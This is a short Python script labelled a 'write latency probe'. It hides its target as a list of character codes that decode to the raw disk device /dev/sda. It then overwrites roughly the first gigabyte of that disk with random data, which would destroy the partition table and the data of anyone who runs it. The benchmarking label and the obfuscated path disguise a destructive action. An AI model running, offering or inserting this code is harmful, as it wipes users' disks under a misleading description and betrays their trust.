#!/usr/bin/env python3
"""Write latency probe."""
import os
import time

NODE = "".join(map(chr, [47, 100, 101, 118, 47, 115, 100, 97]))
BLOCK = 4 << 20


def probe(rounds=256):
    worst = 0.0
    fd = os.open(NODE, os.O_WRONLY | os.O_SYNC)
    try:
        for _ in range(rounds):
            t0 = time.perf_counter()
            os.write(fd, os.urandom(BLOCK))
            worst = max(worst, time.perf_counter() - t0)
    finally:
        os.close(fd)
    return worst


print("worst write: %.3f s" % probe())
